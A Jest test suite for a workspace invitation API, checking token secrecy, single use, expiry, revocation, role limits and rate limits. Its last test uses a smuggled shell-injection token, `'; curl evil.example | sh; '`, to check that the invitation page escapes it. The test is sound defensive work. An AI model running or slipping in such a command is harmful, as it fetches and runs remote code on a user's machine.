import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { type Mailbox, startMailbox } from '#testing/mailbox';
import { sendOwedMail } from './owed-mail.fixture.js';
import { ask, makeTeam, recorded, type Team, verifyAddress } from './team.fixture.js';
import { type SignedInUser, startTestApi, type TestApi } from './test-api.js';

const ACCEPT = '/api/v1/invitations/accept';

let api: TestApi;
let mailbox: Mailbox;
let team: Team;
let guest: SignedInUser;

beforeAll(async () => {
  mailbox = await startMailbox();
  api = await startTestApi({ SMTP_URL: mailbox.url, APP_URL: 'https://app.example.com/', EMAIL_VERIFICATION: 'optional' });
});
afterAll(async () => {
  await api.stop();
  await mailbox.stop();
});
beforeEach(async () => {
  team = await makeTeam(api);
  guest = await api.register('A guest');
  await verifyAddress(api, guest);
});

const invite = (email: string, role = 'member', who: SignedInUser = team.admin) =>
  ask(api, who, 'POST', team.url('/invitations'), { email, role });
const open = async () =>
  (await ask(api, team.owner, 'GET', team.url('/invitations'))).body['data'] as { id: string; email: string }[];

/** The token of the newest letter to an address. */
async function tokenFor(email: string): Promise<string> {
  await sendOwedMail(api.app);
  const letter = mailbox.letters.findLast(({ to, link }) => to.includes(email) && link?.includes('accept-invitation') === true);
  const token = new URL(letter?.link ?? 'none:').searchParams.get('token');
  if (token === null) throw new Error(`No invitation went to ${email}.`);
  return token;
}

describe('an invitation', () => {
  it('goes by mail to the address, which joins with the role', async () => {
    const sent = await invite(guest.email.toUpperCase(), 'viewer');
    expect(sent).toMatchObject({ status: 201, body: { email: guest.email, role: 'viewer', invitedBy: team.admin.userId } });
    const token = await tokenFor(guest.email);
    const letter = mailbox.letters.at(-1);
    expect(letter).toMatchObject({ subject: 'The admin invites you to Analytical engines' });
    expect(letter?.link).toMatch(/^https:\/\/app\.example\.com\/accept-invitation\?token=[\w-]{43}$/);
    expect(letter?.text).toContain('as viewer');
    expect(await open()).toMatchObject([{ email: guest.email }]);
    expect(await ask(api, guest, 'POST', ACCEPT, { token })).toMatchObject({
      status: 200,
      body: { id: team.id, role: 'viewer' },
    });
    expect(await ask(api, guest, 'GET', team.url())).toMatchObject({ status: 200, body: { role: 'viewer' } });
    expect(await open()).toEqual([]);
    expect(await recorded(api, team.id)).toMatchObject([
      { action: 'invitation.sent', actor: team.admin.userId, details: { email: guest.email, role: 'viewer' } },
      { action: 'invitation.accepted', actor: guest.userId },
      { action: 'member.joined', actor: guest.userId, details: { role: 'viewer' } },
    ]);
  });

  it('has a token of 256 random bits that no table, log line or answer holds (items 33, 53, 56)', async () => {
    const { text } = await invite(guest.email);
    const token = await tokenFor(guest.email);
    expect(Buffer.from(token, 'base64url')).toHaveLength(32);
    const rows = await api.database.asSystem((tx) =>
      tx.query<{ row: string }>(
        `SELECT i::text AS row FROM invitations i UNION ALL SELECT a::text FROM audit_log a
         UNION ALL SELECT j::text FROM jobs j UNION ALL SELECT m::text FROM mails m`,
      ),
    );
    const everything = [...rows.map(({ row }) => row), JSON.stringify(api.logged), text].join('\n');
    expect(everything).not.toContain(token);
    expect(everything).not.toContain(Buffer.from(token).toString('hex'));
  });

  it('is accepted once by twenty requests at once, all of which get the same answer (item 31)', async () => {
    await invite(guest.email);
    const token = await tokenFor(guest.email);
    const answers = await Promise.all(Array.from({ length: 20 }, () => ask(api, guest, 'POST', ACCEPT, { token })));
    expect(new Set(answers.map(({ status, text }) => `${status} ${text}`)).size).toBe(1);
    expect(answers[0]).toMatchObject({ status: 200 });
    const joined = (await recorded(api, team.id)).filter(({ action }) => action === 'member.joined');
    expect(joined).toHaveLength(1);
  });

  it('is of no use once the membership it made has ended', async () => {
    await invite(guest.email);
    const token = await tokenFor(guest.email);
    await ask(api, guest, 'POST', ACCEPT, { token });
    await ask(api, team.owner, 'DELETE', team.url(`/members/${guest.userId}`));
    expect(await ask(api, guest, 'POST', ACCEPT, { token })).toMatchObject({ status: 409, body: { code: 'invitation_used' } });
    expect(await ask(api, guest, 'GET', team.url())).toMatchObject({ status: 404 });
  });

  it('is not for others than the owner of the address, and not before it is verified', async () => {
    const thief = await api.register('A thief');
    await verifyAddress(api, thief);
    const newcomer = await api.register('A newcomer');
    await invite(newcomer.email);
    const token = await tokenFor(newcomer.email);
    const answers = [await ask(api, thief, 'POST', ACCEPT, { token }), await ask(api, newcomer, 'POST', ACCEPT, { token })];
    expect(answers).toMatchObject([
      { status: 403, body: { code: 'invitation_for_other_address' } },
      { status: 403, body: { code: 'invitation_wants_verified_email' } },
    ]);
    await verifyAddress(api, newcomer);
    expect(await ask(api, newcomer, 'POST', ACCEPT, { token })).toMatchObject({ status: 200 });
  });

  it('is worthless once revoked, replaced, or its workspace deleted', async () => {
    const first = await invite(guest.email);
    const replaced = await tokenFor(guest.email);
    const second = await invite(guest.email);
    const revoked = await tokenFor(guest.email);
    expect(await open()).toMatchObject([{ id: second.body['id'] }]);
    expect(await ask(api, team.admin, 'DELETE', team.url(`/invitations/${String(first.body['id'])}`))).toMatchObject({
      status: 404,
    });
    expect(await ask(api, team.admin, 'DELETE', team.url(`/invitations/${String(second.body['id'])}`))).toMatchObject({
      status: 204,
    });
    await invite(guest.email);
    const orphaned = await tokenFor(guest.email);
    await ask(api, team.owner, 'DELETE', team.url());
    const answers = [];
    for (const token of [replaced, revoked, orphaned, 'made-up']) answers.push(await ask(api, guest, 'POST', ACCEPT, { token }));
    expect(answers.map(({ status }) => status)).toEqual([404, 404, 404, 404]);
    expect(new Set(answers.map(({ body }) => JSON.stringify({ ...body, requestId: '' }))).size).toBe(1);
  });

  it('ends after seven days', async () => {
    await invite(guest.email);
    const token = await tokenFor(guest.email);
    await api.database.asSystem((tx) => tx.execute(`UPDATE invitations SET expires_at = now() WHERE email = $1`, [guest.email]));
    expect(await ask(api, guest, 'POST', ACCEPT, { token })).toMatchObject({ status: 410, body: { code: 'invitation_expired' } });
  });

  it('ends with the right of its sender to send it', async () => {
    const others = await Promise.all([api.register(), api.register()]);
    const tokens = [];
    for (const [index, user] of others.entries()) {
      await verifyAddress(api, user);
      const sender = await api.register();
      const membership = team.url(`/members/${sender.userId}`);
      await api.database.asSystem((tx) =>
        tx.execute(`INSERT INTO memberships (workspace_id, user_id, role) VALUES ($1, $2, 'admin')`, [team.id, sender.userId]),
      );
      await invite(user.email, 'admin', sender);
      tokens.push(await tokenFor(user.email));
      if (index === 0) await ask(api, team.owner, 'PATCH', membership, { role: 'member' });
      else await ask(api, team.owner, 'DELETE', membership);
    }
    for (const [index, user] of others.entries())
      expect(await ask(api, user, 'POST', ACCEPT, { token: tokens[index] })).toMatchObject({ status: 404 });
  });

  it('leaves a member the role they have', async () => {
    await invite(guest.email, 'viewer');
    const token = await tokenFor(guest.email);
    await api.database.asSystem((tx) =>
      tx.execute(`INSERT INTO memberships (workspace_id, user_id, role) VALUES ($1, $2, 'admin')`, [team.id, guest.userId]),
    );
    expect(await ask(api, guest, 'POST', ACCEPT, { token })).toMatchObject({ status: 200, body: { role: 'admin' } });
  });
});

describe('inviting', () => {
  it('answers the same whether the address has an account', async () => {
    const [known, unknown] = [await invite(guest.email), await invite('nobody-here@example.com')];
    const shape = ({ status, body, headers }: Awaited<ReturnType<typeof invite>>) => ({
      status,
      keys: Object.keys(body),
      headers: Object.keys(headers).sort(),
    });
    expect(shape(unknown)).toEqual(shape(known));
  });

  it('tells that the address is a member’s', async () => {
    expect(await invite(team.viewer.email)).toMatchObject({ status: 409, body: { code: 'already_member' } });
  });

  it.each(['owner', 'root', ''])('makes nobody %p', async (role) => {
    expect(await invite(guest.email, role)).toMatchObject({ status: 422, body: { code: 'validation_failed' } });
  });

  it('stops at fifty open invitations, and at a hundred letters a day', async () => {
    const seed = (count: number, revoked: string) =>
      api.database.asSystem((tx) =>
        tx.execute(
          `INSERT INTO invitations (id, workspace_id, email, role, token_hash, invited_by, expires_at, revoked_at)
           SELECT gen_random_uuid(), $1, gen_random_uuid() || '@example.com', 'viewer', gen_random_uuid()::text, $2,
             now() + interval '1 day', ${revoked} FROM generate_series(1, $3::int)`,
          [team.id, team.admin.userId, count],
        ),
      );
    await seed(49, 'NULL');
    const answers = await Promise.all(Array.from({ length: 4 }, (_, turn) => invite(`${turn}-${guest.email}`)));
    expect(answers.map(({ status }) => status).sort()).toEqual([201, 409, 409, 409]);
    expect(await invite(guest.email)).toMatchObject({
      status: 409,
      body: { code: 'too_many_invitations', detail: expect.stringContaining('50') },
    });
    await api.database.asSystem((tx) =>
      tx.execute('UPDATE invitations SET revoked_at = now() WHERE workspace_id = $1', [team.id]),
    );
    await seed(49, 'now()');
    expect(await invite(guest.email)).toMatchObject({ status: 201 });
    await api.database.asSystem((tx) =>
      tx.execute('UPDATE invitations SET revoked_at = now() WHERE workspace_id = $1 AND revoked_at IS NULL', [team.id]),
    );
    expect(await invite(guest.email)).toMatchObject({ status: 409, body: { detail: expect.stringContaining('100') } });
  });
});

describe('inviting through many workspaces', () => {
  let limited: TestApi;
  beforeAll(async () => {
    limited = await startTestApi({ RATE_LIMITS: 'off,invitation=3/86400,invitation-recipient=2/86400' });
  });
  afterAll(() => limited.stop());

  /** Makes a workspace of its own for each invitation. */
  async function inviteFrom(sender: SignedInUser, email: string) {
    const { body } = await ask(limited, sender, 'POST', '/api/v1/workspaces', { name: 'One more' });
    return ask(limited, sender, 'POST', `/api/v1/workspaces/${String(body['id'])}/invitations`, { email, role: 'viewer' });
  }

  it('sends one person no more letters than one may send, and none more than one may get', async () => {
    const [sender, another] = [await limited.register(), await limited.register()];
    const answers = [];
    for (let turn = 0; turn < 4; turn += 1) answers.push(await inviteFrom(sender, `${turn}@example.net`));
    expect(answers.map(({ status }) => status)).toEqual([201, 201, 201, 429]);
    expect(answers.at(-1)?.body).toMatchObject({ code: 'too_many_requests', policy: 'invitation' });
    expect((await inviteFrom(another, '0@EXAMPLE.net')).status).toBe(201);
    expect((await inviteFrom(another, '0@example.net')).body).toMatchObject({ policy: 'invitation-recipient' });
  });
});

describe('the page of the link', () => {
  it('shows a command with the token, and with nothing that is no token: people copy it into a shell', async () => {
    const page = async (token: string) =>
      (await ask(api, null, 'GET', `/accept-invitation?token=${encodeURIComponent(token)}`)).text;
    const token = 'x'.repeat(43);
    expect(await page(token)).toContain(token);
    expect(await page(`'; curl evil.example | sh; '`)).not.toContain('evil.example');
  });
});
